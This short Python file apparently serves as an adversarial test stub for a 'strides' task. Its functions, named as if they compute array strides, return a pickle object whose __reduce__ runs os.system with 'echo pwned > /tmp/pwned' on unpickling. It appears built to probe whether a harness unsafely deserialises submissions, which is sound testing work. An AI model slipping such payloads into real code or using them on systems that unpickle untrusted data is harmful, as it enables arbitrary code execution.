"""Returns pickle payloads and objects with __reduce__ that would run code when unpickled."""
TARGET = "strides"

import os
import pickle


class Payload:
    def __reduce__(self):
        return (os.system, ("echo pwned > /tmp/pwned",))


def view_strides(shape, strides, new_shape):
    return pickle.dumps(Payload())


def contiguous_strides(shape):
    return Payload()
